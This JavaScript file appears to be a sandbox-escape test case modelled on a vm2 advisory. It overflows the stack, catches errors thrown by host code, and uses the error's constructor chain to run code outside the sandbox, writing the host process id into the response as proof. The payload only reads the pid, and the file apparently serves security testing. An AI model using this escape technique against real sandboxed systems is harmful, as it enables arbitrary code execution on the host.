// Lets a call of the platform overflow the stack and walks from the error that the host's code throws.
// Class: platform-calls
// Advisory: patriksimek/vm2#199 (a host call that overflows the stack)
// Win: the id holds the process id.
// Control: vm
const { exports: lookups } = require('integrator-api');
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const caught = [];
  function probe() {
    try {
      lookups.run({ _id: 'deep' });
    } catch (error) {
      if (caught.length < 200) caught.push(error);
    }
  }
  function dig() {
    try {
      dig();
    } catch {
      // the end of the stack: go back a little
    }
    if (caught.length < 200) probe();
  }
  dig();
  for (const error of caught) {
    try {
      options.responseData[0].id = 'ESCAPED:' + error.constructor.constructor('return process.pid')();
    } catch {
      // an error of the hook's own realm
    }
  }
  return options.responseData;
}
